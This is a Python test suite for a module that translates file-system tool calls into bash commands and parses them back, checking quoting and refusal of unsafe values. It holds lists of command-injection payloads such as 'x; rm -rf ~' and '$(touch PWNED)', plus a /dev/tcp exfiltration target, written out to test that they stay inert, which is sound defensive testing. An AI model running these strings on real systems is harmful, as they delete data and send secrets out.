"""translate: tool call -> bash line (to_bash) and back (from_bash).

What a user would notice: the command put on the prompt is the one the
table in tools.md promises, a hostile argument value stays one inert word
in real bash (and zsh), and a line the user types or edits is recognised
as the same tool call it runs.
"""

import json
import os
import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from shellper_hook import tools
from shellper_hook.errors import AnswerError, UnknownArgument, UnknownTool, WrongType
from shellper_hook.readback import read_back
from shellper_hook.readback import read_back as from_bash
from shellper_hook.render import find_pattern, quote, to_bash, to_shell
from shellper_hook.tools import ToolCall

DATA = os.path.join(os.path.dirname(__file__), "data", "bfcl_fs_calls.jsonl")
with open(DATA, encoding="utf-8") as _fh:
    BFCL = [json.loads(line) for line in _fh if line.strip()]

ZSH = shutil.which("zsh")
SHELLS = ["bash"] + (["zsh"] if ZSH else [])

# Values a model (or a file name on disk) could carry to break out of a word.
HOSTILE = [
    "x; rm -rf ~",
    "$(touch PWNED)",
    "`touch PWNED`",
    "x' ; touch PWNED; '",
    'x" ; touch PWNED; "',
    "a\nb",
    "a\nrm -rf ~",
    "*",
    "~",
    "~root",
    "!!",
    "!-1",
    "'",
    '"',
    "''",
    "\\",
    "-rf",
    "--help",
    "-n",
    "a b  c",
    "$HOME",
    "${PATH}",
    "#comment",
    "{a,b}",
    "[ab]",
    "&& touch PWNED",
    "| touch PWNED",
    "> PWNED",
    "<(touch PWNED)",
    "=ls",
    "%1",
    "a\tb\r",
    "é ü 中文",
    "\x1b[2Jx",
]


def expected_argv(call: ToolCall, recursive: bool = False, home: str | None = None):
    """(argv after the command word, redirect target) as the table in tools.md says; a path
    that starts with ~ or ~/ is home's (render.path_word leaves that ~ to the shell)."""
    a = dict(call.with_defaults().arguments)
    name = call.name
    if home is not None:
        for key in ("file_name", "file_name1", "file_name2", "folder", "dir_name", "source", "destination", "path"):
            value = a.get(key)
            if isinstance(value, str) and (value == "~" or value.startswith("~/")):
                a[key] = home + value[1:]
    if name == "echo":
        return [a["content"]], (None if a["file_name"] == "None" else a["file_name"])
    if name == "find":
        pattern = [] if a["name"] == "None" else ["-name", find_pattern(a["name"])]
        return [a["path"], *pattern], None
    options, operands = {
        "cat": ([], ["file_name"]),
        "cd": ([], ["folder"]),
        "cp": (["-r"], ["source", "destination"]),
        "diff": ([], ["file_name1", "file_name2"]),
        "du": (["-h"] if a.get("human_readable") else [], []),
        "grep": (["-F"], ["pattern", "file_name"]),
        "ls": (["-a"] if a.get("a") else [], []),
        "mkdir": ([], ["dir_name"]),
        "mv": ([], ["source", "destination"]),
        "pwd": ([], []),
        "rm": (["-r"] if recursive else [], ["file_name"]),
        "rmdir": ([], ["dir_name"]),
        "sort": ([], ["file_name"]),
        "tail": (["-n", str(a.get("lines"))], ["file_name"]),
        "touch": ([], ["file_name"]),
        "wc": (["-" + str(a.get("mode"))], ["file_name"]),
    }[name]
    values = [a[k] for k in operands]
    dashdash = ["--"] if any(v.startswith("-") for v in values) else []
    return options + dashdash + values, None


def run_argv(line: str, name: str, tmp_path, shell: str = "bash"):
    """Run line in a real shell with printf in front of its command word.

    Returns (argv the shell passed, contents of the redirect target or None).
    Asserts nothing else happened: no PWNED file, the fake HOME untouched.
    """
    assert line == name or line.startswith(name + " "), line
    work = tmp_path / "work"
    home = tmp_path / "home"
    for d in (work, home):
        shutil.rmtree(d, ignore_errors=True)
        d.mkdir()
    (home / "canary").write_text("alive")
    # printf repeats its format per argument; the tool name itself is the
    # first one, so a call without operands still prints something
    script = "printf '%s\\0' " + line
    cmd = [shell, "--norc", "--noprofile", "-c", script] if shell == "bash" else [shell, "-f", "-c", script]
    if shell == "fish":
        cmd = ["fish", "--no-config", "-c", script]
    env = {"HOME": str(home), "PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}
    proc = subprocess.run(cmd, cwd=work, env=env, capture_output=True, timeout=10)
    assert proc.returncode == 0, (line, proc.stderr)
    assert not (work / "PWNED").exists() and not (home / "PWNED").exists(), line
    assert (home / "canary").read_text() == "alive"
    argv = [x.decode("utf-8", "surrogateescape") for x in proc.stdout.split(b"\0")[:-1]]
    created = sorted(os.listdir(work))
    if not created:
        assert argv[0] == name
        return argv[1:], None
    assert len(created) == 1, (line, created)  # only the redirect target may appear
    assert argv == []
    written = (work / created[0]).read_bytes().decode("utf-8", "surrogateescape")
    assert written.startswith(name + "\0")
    return argv, created[0], written[len(name) + 1 :]


def assert_argv(call, tmp_path, shell="bash", recursive=False):
    line = to_shell(call, "fish" if shell == "fish" else "bash", allow_recursive=recursive)
    want, target = expected_argv(call, recursive, home=str(tmp_path / "home"))
    word = call.name
    if call.name == "echo" and line.startswith("printf '%s\\n' "):
        word, want = "printf", ["%s\\n", *want]  # the literal form of option-like content
    got = run_argv(line, word, tmp_path, shell)
    if target is None:
        assert got == (want, None), line
    else:  # the printf output went into the file, not to stdout
        assert got == ([], target, "\0".join(want) + "\0"), line
    return line


# ---------------------------------------------------------------- to_bash


@pytest.mark.parametrize(
    "name, args, line",
    [
        # the examples of tools.md, verbatim
        ("ls", {"a": True}, "ls -a"),
        ("echo", {"content": "it's done", "file_name": "notes.txt"}, "echo 'it'\"'\"'s done' >> notes.txt"),
        ("find", {"path": ".", "name": "test"}, "find . -name '*test*'"),
        # one line per row of the table, defaults filled in
        ("cat", {"file_name": "notes.txt"}, "cat notes.txt"),
        ("cd", {"folder": "src/app"}, "cd src/app"),
        ("cp", {"source": "a.txt", "destination": "backup"}, "cp -r a.txt backup"),
        ("diff", {"file_name1": "a.txt", "file_name2": "b.txt"}, "diff a.txt b.txt"),
        ("du", {}, "du"),
        ("du", {"human_readable": True}, "du -h"),
        ("echo", {"content": "hello"}, "echo hello"),
        ("echo", {"content": "hello", "file_name": "None"}, "echo hello"),
        ("find", {}, "find ."),
        ("find", {"path": "src", "name": "None"}, "find src"),
        ("find", {"path": "my dir", "name": "a b"}, "find 'my dir' -name '*a b*'"),
        ("grep", {"file_name": "app.log", "pattern": "error"}, "grep -F error app.log"),
        ("ls", {}, "ls"),
        ("ls", {"a": False}, "ls"),
        ("mkdir", {"dir_name": "temp"}, "mkdir temp"),
        ("mv", {"source": "a", "destination": "b"}, "mv a b"),
        ("pwd", {}, "pwd"),
        ("rm", {"file_name": "old.txt"}, "rm old.txt"),
        ("rmdir", {"dir_name": "temp"}, "rmdir temp"),
        ("sort", {"file_name": "names.txt"}, "sort names.txt"),
        ("tail", {"file_name": "app.log"}, "tail -n 10 app.log"),
        ("tail", {"file_name": "app.log", "lines": 3}, "tail -n 3 app.log"),
        ("touch", {"file_name": "new.txt"}, "touch new.txt"),
        ("wc", {"file_name": "f.txt"}, "wc -l f.txt"),
        ("wc", {"file_name": "f.txt", "mode": "w"}, "wc -w f.txt"),
        ("wc", {"file_name": "f.txt", "mode": "c"}, "wc -c f.txt"),
        # coerced like tools.validate does
        ("tail", {"file_name": "app.log", "lines": "5"}, "tail -n 5 app.log"),
        ("ls", {"a": "true"}, "ls -a"),
    ],
)
def test_to_bash_follows_the_table(name, args, line):
    assert to_bash(ToolCall(name, args)) == line


def test_every_tool_has_a_translation():
    for name in tools.names():
        args = {k: ("x" if p.get("type") == "string" else p.get("default", 1)) for k, p in tools.properties(name).items()}
        if name == "wc":
            args["mode"] = "l"
        assert to_bash(ToolCall(name, args)).split(" ")[0] == name


def test_rm_is_recursive_only_when_allowed():
    call = ToolCall("rm", {"file_name": "build"})
    assert to_bash(call) == "rm build"
    assert to_bash(call, allow_recursive=False) == "rm build"
    assert to_bash(call, allow_recursive=True) == "rm -r build"
    assert to_bash(ToolCall("rm", {"file_name": "-rf"}), allow_recursive=True) == "rm -r -- -rf"


@pytest.mark.parametrize(
    "word, quoted",
    [
        ("src/app", "src/app"),
        ("notes.txt", "notes.txt"),
        (".", "."),
        ("..", ".."),
        ("a-b_c,d:e@f%g+h", "a-b_c,d:e@f%g+h"),
        ("", "''"),
        ("a b", "'a b'"),
        ("it's", "'it'\"'\"'s'"),
        ("'", '"\'"'),
        ("*", "'*'"),
        ("~", "'~'"),
        ("$HOME", "'$HOME'"),
        ("a=b", "'a=b'"),
        ("é", "'é'"),
    ],
)
def test_quote_leaves_plain_words_alone_and_quotes_the_rest(word, quoted):
    assert quote(word) == quoted


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.lists(st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))), max_size=12))
def test_quote_gives_the_shell_exactly_the_value(shell, words, tmp_path):
    line = " ".join(["cat"] + [quote(w) for w in words])
    assert run_argv(line, "cat", tmp_path, shell) == (words, None)


@pytest.mark.parametrize(
    "name, args, line",
    [
        ("rm", {"file_name": "-rf"}, "rm -- -rf"),
        ("cat", {"file_name": "-n"}, "cat -- -n"),
        ("grep", {"pattern": "-v", "file_name": "f"}, "grep -F -- -v f"),
        ("grep", {"pattern": "-", "file_name": "f"}, "grep -F -- - f"),
        ("grep", {"pattern": "x", "file_name": "-f"}, "grep -F -- x -f"),
        ("tail", {"file_name": "-f"}, "tail -n 10 -- -f"),
        ("cd", {"folder": "-x"}, "cd -- -x"),
        ("mkdir", {"dir_name": "-p"}, "mkdir -- -p"),
        ("cp", {"source": "-a", "destination": "b"}, "cp -r -- -a b"),
        ("cp", {"source": "a", "destination": "--help"}, "cp -r -- a --help"),
        ("mv", {"source": "-i", "destination": "b"}, "mv -- -i b"),
        ("diff", {"file_name1": "a", "file_name2": "-y"}, "diff -- a -y"),
        ("wc", {"file_name": "-c", "mode": "w"}, "wc -w -- -c"),
        ("touch", {"file_name": "--version"}, "touch -- --version"),
        ("sort", {"file_name": "-r"}, "sort -- -r"),
        ("rmdir", {"dir_name": "-v"}, "rmdir -- -v"),
        ("rm", {"file_name": "a-b"}, "rm a-b"),  # only a leading dash matters
        # echo would read these as options: printf writes them literally
        ("echo", {"content": "-n hi"}, "printf '%s\\n' '-n hi'"),
        ("echo", {"content": "-e", "file_name": "-f"}, "printf '%s\\n' -e >> -f"),
    ],
)
def test_operands_that_look_like_options_stay_operands(name, args, line):
    assert to_bash(ToolCall(name, args)) == line


@pytest.mark.parametrize(
    "name, args, words",
    [
        ("wc", {"file_name": "f", "mode": "x"}, ["wc", "'x'"]),
        ("wc", {"file_name": "f", "mode": "lw"}, ["wc", "'lw'"]),
        ("wc", {"file_name": "f", "mode": ""}, ["wc", "mode"]),
        ("wc", {"file_name": "f", "mode": "l; reboot"}, ["wc", "mode"]),
        ("tail", {"file_name": "f", "lines": 0}, ["tail", "lines"]),
        ("tail", {"file_name": "f", "lines": -5}, ["tail", "lines"]),
        ("tail", {"file_name": "f", "lines": "ten"}, ["tail", "lines"]),
        ("tail", {"file_name": "f", "lines": True}, ["tail", "lines"]),
        ("tail", {"file_name": "f", "lines": 10**30}, ["tail", "lines"]),
        ("ls", {"a": "yes"}, ["ls", "'a'"]),
        ("cat", {"file_name": ["a", "b"]}, ["cat", "file_name"]),
        ("cat", {"file_name": "a\x00b"}, ["cat", "NUL"]),
        ("echo", {"content": "x\x00; reboot"}, ["echo", "NUL"]),
        ("find", {"path": "-delete"}, ["find", "'-'"]),
        ("find", {"path": "-", "name": "x"}, ["find", "'-'"]),
        ("find", {"path": "("}, ["find", "expression"]),
        ("find", {"path": "!"}, ["find", "expression"]),
        ("find", {"path": ""}, ["find", "empty"]),
        ("cat", {"file_name": ""}, ["cat", "empty"]),
        ("cp", {"source": "a", "destination": ""}, ["cp", "empty"]),
        ("echo", {"content": "x", "file_name": ""}, ["echo", "empty"]),
        # "-" is standard input/output for these, not a file
        ("cat", {"file_name": "-"}, ["cat", "standard input"]),
        ("tail", {"file_name": "-"}, ["tail", "standard input"]),
        ("wc", {"file_name": "-"}, ["wc", "standard input"]),
        ("sort", {"file_name": "-"}, ["sort", "standard input"]),
        ("diff", {"file_name1": "a", "file_name2": "-"}, ["diff", "standard input"]),
        ("grep", {"pattern": "x", "file_name": "-"}, ["grep", "standard input"]),
        ("touch", {"file_name": "-"}, ["touch", "standard output"]),
        # cd -, cd +1 / -2 (zsh directory stack) go elsewhere than a folder of that name
        ("cd", {"folder": "-"}, ["cd", "earlier directory"]),
        ("cd", {"folder": "+1"}, ["cd", "earlier directory"]),
        ("cd", {"folder": "-2"}, ["cd", "earlier directory"]),
        # bash opens these as network connections
        ("echo", {"content": "secret", "file_name": "/dev/tcp/10.0.0.1/80"}, ["echo", "network"]),
    ],
)
def test_values_no_command_can_carry_are_refused(name, args, words):
    with pytest.raises(WrongType) as err:
        to_bash(ToolCall(name, args))
    message = str(err.value)
    assert "\n" not in message
    for word in words:
        assert word in message, message


def test_calls_outside_the_schema_are_refused():
    with pytest.raises(UnknownTool):
        to_bash(ToolCall("chmod", {"file_name": "x"}))
    with pytest.raises(UnknownArgument):
        to_bash(ToolCall("ls", {"l": True}))
    with pytest.raises(AnswerError):
        to_bash(ToolCall("cat", {}))


def test_accepted_oddities_are_still_translated():
    # a dash inside a word, "-" where it names a real file, "+1" outside cd
    assert to_bash(ToolCall("rm", {"file_name": "-"})) == "rm -- -"
    assert to_bash(ToolCall("mkdir", {"dir_name": "+1"})) == "mkdir +1"
    assert to_bash(ToolCall("cd", {"folder": "+1x"})) == "cd +1x"
    assert to_bash(ToolCall("grep", {"pattern": "", "file_name": "f"})) == "grep -F '' f"
    assert to_bash(ToolCall("echo", {"content": ""})) == "echo ''"
    assert to_bash(ToolCall("find", {"name": ""})) == "find . -name '**'"
    assert to_bash(ToolCall("find", {"path": "!x"})) == "find '!x'"


# --------------------------------------------------- real shells, real argv


def _hostile_calls():
    """Every tool with hostile values in every string slot."""
    calls = []
    for name in tools.names():
        props = tools.properties(name)
        strings = [k for k, p in props.items() if p.get("type") == "string" and not (name == "wc" and k == "mode")]
        for i, value in enumerate(HOSTILE):
            other = HOSTILE[(i + 7) % len(HOSTILE)]
            args = {k: (value if j == 0 else other) for j, k in enumerate(strings)}
            calls.append(ToolCall(name, args))
            if len(strings) > 1:  # the hostile value in the other slot too
                calls.append(ToolCall(name, {k: (other if j == 0 else value) for j, k in enumerate(strings)}))
    return calls


HOSTILE_CALLS = _hostile_calls()


@pytest.mark.parametrize("shell", SHELLS)
def test_hostile_values_reach_the_command_as_single_inert_words(shell, tmp_path):
    ran = 0
    for call in HOSTILE_CALLS:
        if call.name == "find" and call.arguments.get("path", "").startswith("-"):
            with pytest.raises(WrongType, match="find cannot search a path starting with '-'"):
                to_bash(call)
            continue
        if call.name == "echo" and call.arguments.get("file_name") == "~":
            continue  # >> onto home, a folder: it fails, as the effect line says
        assert_argv(call, tmp_path, shell)
        if call.name == "rm":
            assert_argv(call, tmp_path, shell, recursive=True)
        ran += 1
    assert ran > 0.9 * len(HOSTILE_CALLS)


@pytest.mark.parametrize("shell", SHELLS)
def test_every_benchmark_call_reaches_the_command_unchanged(shell, tmp_path):
    assert len(BFCL) == 198
    for entry in BFCL:
        call = tools.validate(entry["name"], entry["arguments"])
        assert_argv(call, tmp_path, shell)


def test_every_benchmark_call_round_trips():
    for entry in BFCL:
        call = tools.validate(entry["name"], entry["arguments"])
        assert from_bash(to_bash(call)) == call.with_defaults(), entry
        if call.name == "rm":
            assert from_bash(to_bash(call, allow_recursive=True)) == call.with_defaults()


def _sh(line, cwd, home):
    env = {"HOME": str(home), "PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}
    return subprocess.run(["bash", "--norc", "--noprofile", "-c", line], cwd=cwd, env=env, capture_output=True, timeout=10)


# file-name-safe hostile values: no "/", not "." or "..", not a stdin "-", not ~ (home, as meant)
FILE_NAMES = [v for v in HOSTILE if "/" not in v and v != "~"] + ["-", "+1"]


@pytest.mark.parametrize("value", FILE_NAMES)
def test_real_commands_touch_exactly_the_named_file(value, tmp_path):
    """Run the real tools (not printf) on hostile names: only that name is affected."""
    work, home = tmp_path / "w", tmp_path / "h"
    work.mkdir()
    home.mkdir()
    (home / "canary").write_text("alive")
    (work / "keep").write_text("keep me\n")

    def run(call, recursive=False):
        try:
            line = to_bash(call, allow_recursive=recursive)
        except WrongType:
            assert value in ("-", "+1")  # only the documented stdio/dir-stack refusals
            return None
        proc = _sh(line, work, home)
        assert not (work / "PWNED").exists() and (home / "canary").read_text() == "alive", line
        return proc

    def listing():
        return sorted(os.listdir(work))

    content = "<" + value + ">"  # not an echo option even for "-n"
    if run(ToolCall("touch", {"file_name": value})) is not None:
        assert listing() == sorted(["keep", value])
        assert run(ToolCall("echo", {"content": content, "file_name": value})).returncode == 0
        assert (work / value).read_bytes() == (content + "\n").encode()
        assert run(ToolCall("cat", {"file_name": value})).stdout == (content + "\n").encode()
        wc = run(ToolCall("wc", {"file_name": value, "mode": "c"}))
        assert wc.stdout.split()[0] == str(len((content + "\n").encode())).encode()
        tail = run(ToolCall("tail", {"file_name": value, "lines": 1}))
        assert tail.stdout == (content.split("\n")[-1] + "\n").encode()
        assert run(ToolCall("cp", {"source": value, "destination": "copy"})).returncode == 0
        assert (work / "copy").read_bytes() == (content + "\n").encode()
        assert run(ToolCall("rm", {"file_name": value})).returncode == 0
        assert listing() == ["copy", "keep"]
        assert run(ToolCall("mv", {"source": "copy", "destination": value})).returncode == 0
        assert listing() == sorted(["keep", value])
        assert run(ToolCall("rm", {"file_name": value})).returncode == 0
    assert listing() == ["keep"]

    assert run(ToolCall("mkdir", {"dir_name": value})).returncode == 0
    assert (work / value).is_dir() and listing() == sorted(["keep", value])
    cd = run(ToolCall("cd", {"folder": value}))
    if cd is not None:
        cd = _sh(to_bash(ToolCall("cd", {"folder": value})) + " && pwd", work, home)
        assert cd.stdout == (str(work / value) + "\n").encode()
    assert run(ToolCall("rmdir", {"dir_name": value})).returncode == 0
    assert listing() == ["keep"]

    # grep with a hostile pattern finds the line that contains it literally
    # (grep reads a newline in the pattern as two patterns: skip that one)
    if "\n" not in value and run(ToolCall("echo", {"content": "x" + value + "y", "file_name": "g"})):
        grep = _sh(to_bash(ToolCall("grep", {"pattern": value, "file_name": "g"})), work, home)
        assert grep.stdout.decode() == "x" + value + "y\n"


def test_real_rm_r_removes_only_the_named_tree(tmp_path):
    work, home = tmp_path / "w", tmp_path / "h"
    (work / "-rf" / "inner").mkdir(parents=True)
    (work / "-rf" / "inner" / "f").write_text("x")
    (work / "keep").mkdir()
    home.mkdir()
    assert _sh(to_bash(ToolCall("rm", {"file_name": "-rf"})), work, home).returncode != 0  # a directory: needs -r
    assert (work / "-rf").is_dir()
    assert _sh(to_bash(ToolCall("rm", {"file_name": "-rf"}), allow_recursive=True), work, home).returncode == 0
    assert sorted(os.listdir(work)) == ["keep"]


def test_real_find_uses_the_name_as_a_substring(tmp_path):
    work, home = tmp_path / "w", tmp_path / "h"
    (work / "sub").mkdir(parents=True)
    home.mkdir()
    for name in ("my test file", "other", "sub/x; test"):
        (work / name).write_text("")
    out = _sh(to_bash(ToolCall("find", {"path": ".", "name": " test"})), work, home).stdout.decode()
    assert sorted(out.splitlines()) == ["./my test file", "./sub/x; test"]
    out = _sh(to_bash(ToolCall("find", {"path": "sub"})), work, home).stdout.decode()
    assert sorted(out.splitlines()) == ["sub", "sub/x; test"]


# -------------------------------------------------------------- from_bash


@pytest.mark.parametrize(
    "line, name, args",
    [
        ("cd src/app", "cd", {"folder": "src/app"}),
        ("  cd src/app \n", "cd", {"folder": "src/app"}),
        ("ls", "ls", {"a": False}),
        ("ls -a", "ls", {"a": True}),
        ('cat "my file.txt"', "cat", {"file_name": "my file.txt"}),
        ("cat 'my file.txt'", "cat", {"file_name": "my file.txt"}),
        ("cat my\\ file.txt", "cat", {"file_name": "my file.txt"}),
        ("cat my' 'fi\"le\".txt", "cat", {"file_name": "my file.txt"}),
        ("cat 'it'\\''s'", "cat", {"file_name": "it's"}),
        ('cat "a\\"b\\\\c\\$d\\`e\\x"', "cat", {"file_name": 'a"b\\c$d`e\\x'}),
        ("cat \\*", "cat", {"file_name": "*"}),
        ("cat '$(reboot)'", "cat", {"file_name": "$(reboot)"}),
        ("cat 'a\nb'", "cat", {"file_name": "a\nb"}),
        ("cat a\\\nb", "cat", {"file_name": "ab"}),  # backslash-newline joins the line
        ("cat café.txt", "cat", {"file_name": "café.txt"}),
        ("\\cat f", "cat", {"file_name": "f"}),
        ("cat -- -n", "cat", {"file_name": "-n"}),
        ("tail -n 20 app.log", "tail", {"file_name": "app.log", "lines": 20}),
        ("tail -n20 app.log", "tail", {"file_name": "app.log", "lines": 20}),
        ("tail -20 app.log", "tail", {"file_name": "app.log", "lines": 20}),
        ("tail app.log", "tail", {"file_name": "app.log", "lines": 10}),
        ("tail -n 5 -- -f", "tail", {"file_name": "-f", "lines": 5}),
        ("wc -w f", "wc", {"file_name": "f", "mode": "w"}),
        ("wc -c f", "wc", {"file_name": "f", "mode": "c"}),
        ("du", "du", {"human_readable": False}),
        ("du -h", "du", {"human_readable": True}),
        ("cp a b", "cp", {"source": "a", "destination": "b"}),
        ("cp -r a b", "cp", {"source": "a", "destination": "b"}),
        ("cp -R a 'b c'", "cp", {"source": "a", "destination": "b c"}),
        ("cp -r -- -a b", "cp", {"source": "-a", "destination": "b"}),
        ("mv a b", "mv", {"source": "a", "destination": "b"}),
        ("rm x", "rm", {"file_name": "x"}),
        ("rm -r x", "rm", {"file_name": "x"}),
        ("rm -- -rf", "rm", {"file_name": "-rf"}),
        ("find . -name '*test*'", "find", {"path": ".", "name": "test"}),
        ('find docs -name "*a b*"', "find", {"path": "docs", "name": "a b"}),
        ("find . -name \\*x\\*", "find", {"path": ".", "name": "x"}),
        ("find src", "find", {"path": "src", "name": "None"}),
        ("find", "find", {"path": ".", "name": "None"}),
        ("find -name '*x*'", "find", {"path": ".", "name": "x"}),
        ("echo hi there", "echo", {"content": "hi there", "file_name": "None"}),
        ("echo  hi   there ", "echo", {"content": "hi there", "file_name": "None"}),
        ("echo 'hi   there'", "echo", {"content": "hi   there", "file_name": "None"}),
        ("echo", "echo", {"content": "", "file_name": "None"}),
        ("printf '%s\\n' '-n hi'", "echo", {"content": "-n hi", "file_name": "None"}),
        ("printf '%s\\n' -e >> f", "echo", {"content": "-e", "file_name": "f"}),
        ("printf %s\\\\n 'a\\b'", "echo", {"content": "a\\b", "file_name": "None"}),
        ("echo 'a b' >> f.txt", "echo", {"content": "a b", "file_name": "f.txt"}),
        ("echo a>>f.txt", "echo", {"content": "a", "file_name": "f.txt"}),
        ("echo x >> 'my notes'", "echo", {"content": "x", "file_name": "my notes"}),
        ("grep -- -v f", "grep", {"pattern": "-v", "file_name": "f"}),
        ("grep 'a b' f", "grep", {"pattern": "a b", "file_name": "f"}),
        ("diff a b", "diff", {"file_name1": "a", "file_name2": "b"}),
        ("mkdir -- -p", "mkdir", {"dir_name": "-p"}),
        ("rmdir d", "rmdir", {"dir_name": "d"}),
        ("sort f", "sort", {"file_name": "f"}),
        ("touch 'x; rm -rf ~'", "touch", {"file_name": "x; rm -rf ~"}),
        ("pwd", "pwd", {}),
        ("cd -- -x", "cd", {"folder": "-x"}),
    ],
)
def test_from_bash_recognises_the_tool_shapes(line, name, args):
    assert from_bash(line) == ToolCall(name, args)


@pytest.mark.parametrize(
    "line",
    [
        "",
        "   ",
        "ls -l",
        "ls -a -a",
        "ls .",
        "ls --all",
        "cat",
        "cat a b",
        "cat f -n",  # GNU reads options after operands
        "cat -n f",
        "cat a | grep b",
        "cat a; rm b",
        "cat a && rm b",
        "cat a || rm b",
        "cat a & ",
        "cat a\nrm b",
        "cat a > b",
        "cat < a",
        "cat a 2>> log",
        "echo a 2>>f",
        "echo -n hi",  # an option, not content
        "echo -e 'a\\tb'",
        "echo 'a\\nb'",  # zsh's echo expands the backslash, bash's does not
        "printf '%s\\n' a b",  # two lines
        "printf %s a",
        "printf '%s\\n'",
        "echo a > f",
        "echo a >> f >> g",
        "echo a >> f g",
        "echo a >>",
        "echo a >> None",  # "None" means no file: not expressible
        "echo $(reboot)",
        "echo `reboot`",
        'echo "$HOME"',
        "cat $HOME",
        "cat ${HOME}",
        "cat $'a'",
        "cat *",
        "cat a?",
        "cat [ab]",
        "cat {a,b}",
        "cat a=~/f",
        "cat !!",
        'cat "a!"',
        "cat #x",
        "cat a#b",  # zsh extended_glob
        "cat ^a",
        "cat =ls",  # zsh: path of ls
        "cat ''=ls",
        'cat ""=ls',
        "cat (a)",
        "cat <(ls)",
        "cat 'unclosed",
        'cat "unclosed',
        "cat trailing\\",
        "cat a\rb",
        "sudo cat f",
        "env cat f",
        "A=1 cat f",
        "command cat f",
        "chmod 777 f",
        "rm -rf x",
        "rm -f x",
        "rm -r -r x",
        "rm",
        "cp a",
        "cp a b c",
        "cp -a a b",
        "mv -f a b",
        "tail -n +5 f",
        "tail -n -5 f",
        "tail -n 0 f",
        "tail -n ten f",
        "tail -f f",
        "tail -n 5",
        "wc -m f",
        "wc f",  # lines, words and bytes: no one mode of the tool
        "wc -l -w f",
        "wc -lw f",
        "find . -name test",
        "find . -type f",
        "find . -name '*x*' -delete",
        "find . -exec rm {} ;",
        "find '(' ",
        "cd",
        "cd -",
        "cd +1",
        "cd -2",
        "cd a b",
        "cd -P x",
        "du -sh",
        "du .",
        "pwd -P",
        "cat -",  # standard input, not a file
        "cat ''",  # empty file name
        "touch -",
        "grep -v x f",
        "grep -e x f",
        "grep x",
        "diff a",
        "echo x >> /dev/tcp/10.0.0.1/80",
        "cat 'a\x00b'",
    ],
)
def test_from_bash_rejects_everything_else(line):
    assert from_bash(line) is None


def test_from_bash_returns_canonical_calls():
    call = from_bash("tail app.log")
    # `tail app.log` is the model's call without `lines`: run as suggested, it is no edit.
    assert call == ToolCall("tail", {"file_name": "app.log"})
    assert call.arguments == {"file_name": "app.log", "lines": 10}
    assert isinstance(call.arguments["lines"], int)
    assert from_bash("ls").arguments == {"a": False}
    assert from_bash(None) is None


# --------------------------------------------------------------- properties

_SPECIALS = list("-'\"$`\\ \n\t*?[]{}~!#;&|<>()=%+,.:@^") + ["None", "-rf", "$(x)", "é", "中"]


def _pieces(extra: str, min_size=0, max_size=12):
    """Strings glued from shell-significant characters and snippets."""
    return st.lists(st.sampled_from(_SPECIALS + list(extra)), min_size=min_size, max_size=max_size).map("".join)


_TEXT = st.one_of(
    st.text(),
    _pieces("ab"),
    st.sampled_from(HOSTILE + ["", "-", "None", "+1", "!"]),
)


def _value(prop):
    kind = prop.get("type")
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        return st.one_of(st.integers(min_value=-3, max_value=50), st.integers(min_value=1, max_value=10**17))
    return _TEXT


@st.composite
def tool_calls(draw):
    name = draw(st.sampled_from(tools.names()))
    args = {}
    required = tools.required(name)
    for key, prop in tools.properties(name).items():
        if key in required or draw(st.booleans()):
            if name == "wc" and key == "mode":
                args[key] = draw(st.sampled_from(["l", "w", "c"]))
            else:
                args[key] = draw(_value(prop))
    return ToolCall(name, args)


def _reads_back(call: ToolCall, line: str, shell: str = "bash") -> bool:
    """line reads back as call; a find glob may read back as another name with the same
    command (`*foo*` is both the glob and "names containing foo")."""
    back = from_bash(line, shell)
    if back == call.with_defaults():
        return True
    return call.name == "find" and back is not None and to_shell(back, shell) == line


@settings(max_examples=1500, deadline=None)
@given(tool_calls())
def test_from_bash_inverts_to_bash(call):
    try:
        line = to_bash(call)
    except WrongType:
        assume(False)
    assert _reads_back(call, line), line
    if call.name == "rm":
        assert from_bash(to_bash(call, allow_recursive=True)) == call.with_defaults()


@settings(max_examples=500, deadline=None)
@given(_pieces("abcl", max_size=20), st.sampled_from(tools.names()))
def test_from_bash_never_crashes_and_what_it_accepts_round_trips(rest, name):
    call = from_bash(name + " " + rest)
    if call is not None:
        assert call.name == name, (name, rest, call)  # a line is read back as the program it runs, never as another tool
        assert from_bash(to_bash(call)) == call


_CHARS = st.sampled_from([c for c in _SPECIALS if len(c) == 1] + list("ab") + ["é"])
# Pieces of a typed line: quoted and escaped text (mostly accepted), bare specials (mostly not).
_TYPED = st.lists(
    st.one_of(
        st.lists(_CHARS.filter(lambda c: c != "'")).map(lambda cs: "'" + "".join(cs) + "'"),
        st.lists(st.one_of(_CHARS.filter(lambda c: c not in '"\\$`!'), st.sampled_from(['\\"', "\\\\", "\\$", "\\`", "\\a", "\\\n"]))).map(
            lambda cs: '"' + "".join(cs) + '"'
        ),
        _CHARS.map(lambda c: "\\" + c),
        st.sampled_from(["a", "b.txt", "-", "--", "-n", " ", " ", ">>", "="]),
        _CHARS,
    ),
    min_size=1,
    max_size=8,
).map("".join)


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rest=_TYPED)
def test_what_from_bash_accepts_is_what_the_shell_runs(shell, rest, tmp_path):
    """The tokenizer agrees with the real shell on every line it accepts."""
    for name, line in (("cat", "cat " + rest), ("echo", "echo " + rest), ("grep", "grep " + rest + " f.txt")):
        call = from_bash(line)
        if (
            call is None
            or call.arguments.get("file_name") in (".", "..")
            or (name == "echo" and call.arguments["file_name"].startswith("~"))
        ):
            continue  # (a redirect into home lands outside the work folder this test watches)  # (echo >> . fails: a directory)
        got = run_argv(line, name, tmp_path, shell)
        if name == "echo":
            target = call.arguments["file_name"]
            if target == "None":
                assert " ".join(got[0]) == call.arguments["content"], line
            else:  # the words went into the named file
                assert got[1] == target and " ".join(got[2].split("\0")[:-1]) == call.arguments["content"]
        else:
            want, _ = expected_argv(call, home=str(tmp_path / "home"))
            assert _operands_of(name, got[0]) == _operands_of(name, want), line


def _operands_of(name, argv):
    """argv without `--`, and without grep's -F (a pattern typed without it holds no regex)."""
    argv = argv[1:] if name == "grep" and argv[:1] == ["-F"] else argv
    return [w for w in argv if w != "--"]


